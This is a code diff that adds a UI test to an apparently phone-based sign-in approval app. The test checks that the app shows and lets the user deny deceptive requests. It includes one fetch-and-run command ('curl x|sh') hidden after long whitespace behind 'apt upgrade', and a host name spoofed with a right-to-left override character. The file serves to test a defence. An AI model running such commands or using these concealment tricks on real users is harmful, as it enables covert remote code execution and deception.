@@ -91,6 +91,24 @@ class Looks(PhonePageTest):
         self.browser.sees("#registration-text", "not known")
         self.looks_well("bad-link")
 
+    def test_shows_what_would_not_be_seen(self):
+        self.register()
+        self.office.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'", remote_host="192.0.2.7\u202e")
+        self.card()
+        self.looks_well("named")
+        self.browser.tap(".request .deny")
+        self.browser.misses(".request")
+        self.office.sign_in(self.user, command="/usr/bin/install " + "a-file " * 300)
+        self.card()
+        self.looks_well("long-command")
+        self.browser.tap(".request .deny")
+        self.browser.misses(".request")
+        self.office.sign_in(
+            self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR",
+            beneficiary_account_of_the_payment="DE02 1203 0000 0000 2020 51")  # fmt: skip
+        self.card()
+        self.looks_well("transaction")
+
     def test_works_by_keyboard_alone(self):
         self.register()
         sign_in = self.office.sign_in(self.user)
